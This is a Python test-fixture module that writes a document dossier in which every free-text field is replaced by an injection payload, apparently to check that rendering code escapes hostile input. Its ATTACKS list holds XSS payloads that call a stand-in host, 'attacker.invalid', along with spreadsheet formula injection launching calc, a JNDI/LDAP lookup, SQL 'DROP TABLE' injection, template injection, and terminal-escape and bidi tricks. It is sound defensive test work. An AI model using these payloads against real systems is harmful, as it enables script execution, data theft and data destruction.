"""A dossier whose every free string is an attack, made of the one that shows every field (`dossier/skeleton`)."""

from __future__ import annotations

import json
import re
from collections.abc import Iterator
from itertools import cycle
from pathlib import Path
from typing import Any

import yaml

SKELETON = Path(__file__).parents[1] / "dossier" / "skeleton"
HOST = "attacker.invalid"
"""No machine has this name; a request to it is what a test looks for."""

ATTACKS = (
    f"<script>window.ran=1;fetch('http://{HOST}/script')</script>",
    f'<img src="http://{HOST}/img" onerror="window.ran=1">',
    "<svg onload=window.ran=1><iframe src=javascript:parent.ran=1>",
    "</style></script></textarea><style>body{display:none}</style>",
    '"><a href="javascript:window.ran=1" onmouseover="window.ran=1">x</a>',
    "[click](javascript:window.ran=1) [x](data:text/html,<script>window.ran=1</script>)",
    f"![pixel](http://{HOST}/pixel.png) <http://{HOST}/auto> http://{HOST}/bare www.{HOST}",
    f'=HYPERLINK("http://{HOST}","pay")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1 \r=1+1",
    "＝1+1 full width",
    r"$\href{javascript:window.ran=1}{x}$ $$\includegraphics{http://attacker.invalid/tex}$$ \url{x}",
    "\u202egnp.eliforp\u202c \u2066isolated \u200b\u200d\ufeff zero",
    "\x1b]0;owned\x07\x1b[2J\x1b[31mred\x1b[0m \x9b31m \x08\x08",
    "W" * 300,
    ":material/home: :red[x] :red-badge[y] :smile: **b** ~~s~~ `c` #h",
    "{{7*7}} ${7*7} #{7*7} %s %(x)s {0.__class__} ${jndi:ldap://attacker.invalid}",
    "'; DROP TABLE claims; -- \" OR NOT NEAR(",
    "\u2028line\u2029separators\x85\n\n# heading\n\n- item\n\n---\n",
    "&lt;script&gt; &#x3c;b&#x3e; &amp;amp; %3Cscript%3E",
    "Ṱ̴̛o̷͝ ḭ̸n̵v̶o̵k̸e̴ 👩‍👩‍👧‍👦 \U000e0041 ﷽",
)
FREE = {
    *("title", "summary", "licence", "publisher", "extent_note", "note", "name", "role", "affiliation", "label", "ask"),
    *("measure", "unit", "scope", "text", "why", "place", "wording", "hedge", "status_why"),
    *(
        "title_basis",
        "publisher_basis",
        "authors_basis",
        "country_basis",
        "published_basis",
        "about_basis",
        "said_basis",
    ),
}
"""The fields that take any text; `why` of a question's `differ` is a list of words, and is left alone."""


_UNPRINTABLE = re.compile(r"[\x7f-\x9f\u2028\u2029\ufeff]")
"""What YAML does not take as it is, but as an escape in quotes."""


def _escaped(found: re.Match[str]) -> str:
    return f"\\u{ord(found[0]):04x}"


class _Attacker:
    def __init__(self) -> None:
        self._next = cycle(ATTACKS)
        self._number = 0
        self.quotes: dict[str, list[str]] = {}

    def attack(self, *, most: int = 400) -> str:
        """The next attack, told apart by a number at its end, so that nothing before it is kept from acting."""
        self._number += 1
        end = f" №{self._number}"
        return next(self._next)[: most - len(end)] + end

    def line(self) -> str:
        """An attack that may stand in a raw text, where control characters are refused."""
        return " ".join("".join(char for char in self.attack() if char.isprintable() or char in "\u202e\u202c").split())

    def quote(self, source: str) -> str:
        self.quotes.setdefault(source, []).append(self.line())
        return self.quotes[source][-1]

    def spoil(self, value: Any, key: str = "") -> Any:
        match value:
            case dict():
                return {name: self.spoil(part, name) for name, part in value.items()}
            case list() if key == "aliases":
                return [self.attack(most=100) for _ in value]
            case list():
                return [self.spoil(part, key if isinstance(part, dict) else "") for part in value]
            case str() if key in FREE:
                return self.attack()
            case _:
                return value


def write_attacks(folder: Path) -> Path:
    """Write the dossier into a folder; returns its claims file."""
    plain = yaml.load((SKELETON / "data" / "claims.yaml").read_text(encoding="utf-8"), Loader=yaml.BaseLoader)
    attacker = _Attacker()
    spoilt = {section: attacker.spoil(part, section) for section, part in plain.items()}
    for source in spoilt["sources"]:
        for omission in source["omitted"]:
            omission |= {"quote": attacker.quote(source["id"])}
            omission.pop("prefix", None)
            omission.pop("suffix", None)
    for claim in spoilt["claims"]:
        _prove(attacker, claim)
    for source in spoilt["sources"]:
        file = folder / source["file"]
        file.parent.mkdir(parents=True, exist_ok=True)
        file.write_text("\n\n".join(attacker.quotes[source["id"]]), encoding="utf-8")
    claims = folder / "data" / "claims.yaml"
    claims.parent.mkdir(parents=True, exist_ok=True)
    claims.write_text(_UNPRINTABLE.sub(_escaped, json.dumps(spoilt, ensure_ascii=False, indent=1)), encoding="utf-8")
    return claims


def _prove(attacker: _Attacker, claim: dict[str, Any]) -> None:
    """A quote that stands in the text, and in it whatever the claim says in the speaker's own words."""
    quote = attacker.quote(claim["source"])
    for name in ("prefix", "suffix"):
        claim.pop(name, None)
    claim["quote"] = quote
    for part in _with(claim, "hedge"):
        part["hedge"] = quote
    for part in _with(claim, "wording"):
        part["wording"] = quote
        part.pop("unit", None)


def _with(value: Any, key: str) -> Iterator[dict[str, Any]]:
    """Every mapping inside that has the key."""
    if isinstance(value, dict):
        if key in value:
            yield value
        for part in value.values():
            yield from _with(part, key)
    elif isinstance(value, list):
        for part in value:
            yield from _with(part, key)
